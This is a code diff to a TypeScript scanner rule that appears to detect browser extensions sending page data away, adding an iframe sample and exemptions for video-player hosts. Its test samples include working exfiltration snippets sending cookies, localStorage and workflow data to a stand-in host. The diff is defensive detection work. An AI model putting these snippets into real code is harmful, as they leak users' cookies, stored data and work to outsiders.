@@ -1,7 +1,7 @@
 import { notAcross, sequence } from '../../text-search.ts'
 import { argumentsOf, type CodeFacts } from '../code-facts.ts'
 import type { Call } from '../flow/flow.ts'
-import { areLoopback, hostOf, isScriptHost, outerHostOf } from '../flow/hosts.ts'
+import { areLoopback, hostOf, isPlayerHost, isScriptHost, outerHostOf, showsHost } from '../flow/hosts.ts'
 import { isBundle, isDataAddress, runsScript, sendsAway } from '../flow/javascript-library.ts'
 import { has, isMade, type Value } from '../flow/values.ts'
 import { managerInstall } from '../receivers.ts'
@@ -271,6 +271,7 @@ export const pageDataSent: CodeRule = {
       'new Image().src = `https://example.test/?c=${encodeURIComponent(document["coo" + "kie"])}`',
       'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch("https://example.test/g", { method: "POST", body: JSON.stringify(g) })',
       'import { api } from "../../scripts/api.js"; const old = api.queuePrompt; api.queuePrompt = function (n, data) { navigator.sendBeacon("https://example.test/q", JSON.stringify(data)); return old.call(this, n, data) }',
+      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://example.test/embed/" + n.properties.url })',
       'const d = {...localStorage}; const x = new XMLHttpRequest(); x.open("POST", "https://example.test"); x.send(JSON.stringify(d))',
     ],
     harmless: [
@@ -281,6 +282,7 @@ export const pageDataSent: CodeRule = {
       'import { app } from "../../scripts/app.js"; const g = await app.graphToPrompt(); fetch(app.shareAddress, { method: "POST", body: JSON.stringify(g) })',
       'field.addEventListener("input", (e) => fetch("https://example.test/translate", { method: "POST", body: e.target.value }))',
       'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\\"this.remove()\\">")',
+      'import { app } from "../../scripts/app.js"; const f = document.createElement("iframe"); app.graph._nodes.forEach((n) => { f.src = "https://www.youtube.com/embed/" + n.properties.url })',
     ],
   },
   find: (facts) =>
@@ -331,7 +333,10 @@ function isGivenAway({ calls }: CodeFacts, call: Call): boolean {
   const addressed = others ? calls.filter(({ name }) => others[1].test(name)) : [call]
   return addressed.some(({ args }) =>
     args.some(({ texts }) =>
-      texts.map(hostInStyle).some((host) => host !== '' && !/(^|\.)comfy\.org$/.test(host)),
+      texts
+        .filter((text) => !isPlayerHost(text))
+        .map(hostInStyle)
+        .some((host) => host !== '' && !/(^|\.)comfy\.org$/.test(host)),
     ),
   )
 }
@@ -385,7 +390,7 @@ export const hiddenReceiver: CodeRule = {
     callHits(facts, (call) =>
       sendsAway.test(call.name) &&
       has(call.args[0], 'decoded') &&
-      call.args[0]?.texts.some((text) => hostOf(text) !== '')
+      call.args[0]?.texts.some((text) => hostOf(text) !== '' && !showsHost(text, facts.text))
         ? { message: 'Contacts an address that is hidden by an encoding.' }
         : undefined,
     ),
